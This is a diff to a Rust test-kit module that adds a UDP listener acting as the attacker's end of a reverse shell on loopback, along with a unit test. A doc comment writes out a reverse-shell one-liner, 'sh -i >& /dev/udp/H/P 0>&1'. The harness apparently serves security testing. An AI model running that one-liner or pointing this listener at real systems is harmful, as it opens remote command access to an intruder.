@@ -2,7 +2,7 @@
 //! connection, sends commands and collects what comes back.
 
 use std::io::{ErrorKind, Read, Write};
-use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
 use std::thread::{self, JoinHandle};
 use std::time::{Duration, Instant};
 
@@ -125,6 +125,99 @@ impl ShellListener {
     }
 }
 
+/// The attacker's end of a reverse shell over UDP (`sh -i >& /dev/udp/H/P 0>&1`): a UDP socket
+/// on `127.0.0.1:<ephemeral port>`. UDP has no connection: the shell's first datagram (its
+/// prompt on stderr) names its address, the commands go back there in one datagram, and the
+/// session ends once `until` has arrived and nothing more came for a quiet period.
+#[derive(Debug)]
+pub struct UdpShellListener {
+    socket: UdpSocket,
+    port: u16,
+}
+
+impl UdpShellListener {
+    /// Binds `127.0.0.1:0` (UDP).
+    pub fn bind() -> Result<UdpShellListener, TestkitError> {
+        let socket = UdpSocket::bind("127.0.0.1:0")
+            .map_err(|e| TestkitError::io("binding UDP 127.0.0.1:0", e))?;
+        let port = socket
+            .local_addr()
+            .map_err(|e| TestkitError::io("local_addr of UDP socket", e))?
+            .port();
+        Ok(UdpShellListener { socket, port })
+    }
+
+    /// The port the shell must send to.
+    pub fn port(&self) -> u16 {
+        self.port
+    }
+
+    /// On a background thread: waits for the shell's first datagram, sends `commands`, and
+    /// collects what comes back until the output contains `until` and 300 ms pass without a
+    /// datagram (or `timeout`, from now, passes: then a [`TestkitError::Timeout`] with the
+    /// partial output).
+    pub fn serve(self, commands: &str, until: &str, timeout: Duration) -> PendingSession {
+        let port = self.port;
+        let commands = commands.as_bytes().to_vec();
+        let until = until.to_string();
+        let handle = thread::spawn(move || self.run(&commands, &until, timeout));
+        PendingSession { port, handle }
+    }
+
+    fn run(
+        &self,
+        commands: &[u8],
+        until: &str,
+        timeout: Duration,
+    ) -> Result<ShellSession, TestkitError> {
+        let deadline = Instant::now() + timeout;
+        let quiet = Duration::from_millis(300);
+        let mut output = Vec::new();
+        let mut peer: Option<SocketAddr> = None;
+        let mut buf = [0u8; 65536];
+        loop {
+            let left = deadline.saturating_duration_since(Instant::now());
+            let done = String::from_utf8_lossy(&output).contains(until);
+            if left.is_zero() {
+                return Err(TestkitError::Timeout {
+                    what: format!("a UDP shell session on 127.0.0.1:{}", self.port),
+                    timeout,
+                    partial: String::from_utf8_lossy(&output).into_owned(),
+                });
+            }
+            let wait = if done { quiet.min(left) } else { left };
+            self.socket
+                .set_read_timeout(Some(wait))
+                .map_err(|e| TestkitError::io("set_read_timeout", e))?;
+            match self.socket.recv_from(&mut buf) {
+                Ok((n, from)) => {
+                    if peer.is_none() {
+                        peer = Some(from);
+                        self.socket
+                            .send_to(commands, from)
+                            .map_err(|e| TestkitError::io(format!("sending to {from}"), e))?;
+                    }
+                    if Some(from) == peer {
+                        output.extend_from_slice(&buf[..n]);
+                    }
+                }
+                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
+                    if done {
+                        break;
+                    }
+                }
+                Err(e) if e.kind() == ErrorKind::Interrupted => {}
+                // ICMP port unreachable once the shell is gone.
+                Err(e) if e.kind() == ErrorKind::ConnectionRefused && done => break,
+                Err(e) if e.kind() == ErrorKind::ConnectionRefused => {}
+                Err(e) => return Err(TestkitError::io("UDP recv_from", e)),
+            }
+        }
+        let peer = peer.ok_or_else(|| TestkitError::unexpected("UDP session", "no datagram"))?;
+        Ok(ShellSession { peer, output })
+    }
+}
+
 fn drive(
     mut stream: TcpStream,
     peer: SocketAddr,
@@ -189,6 +282,23 @@ mod tests {
         client.join().unwrap();
         assert_eq!(session.output_str(), "ran id\n");
         assert!(session.peer.ip().is_loopback());
+    }
+
+    #[test]
+    fn udp_session_learns_the_peer_and_collects_replies() {
+        let listener = UdpShellListener::bind().unwrap();
+        let port = listener.port();
+        let pending = listener.serve("id\nexit\n", "ran id", Duration::from_secs(10));
+        let shell = UdpSocket::bind("127.0.0.1:0").unwrap();
+        shell.connect(("127.0.0.1", port)).unwrap();
+        shell.send(b"$ ").unwrap();
+        let mut buf = [0u8; 64];
+        let n = shell.recv(&mut buf).unwrap();
+        assert_eq!(&buf[..n], b"id\nexit\n");
+        shell.send(b"ran id\n").unwrap();
+        let session = pending.wait().unwrap();
+        assert_eq!(session.output_str(), "$ ran id\n");
+        assert_eq!(session.peer, shell.local_addr().unwrap());
     }
 
     #[test]
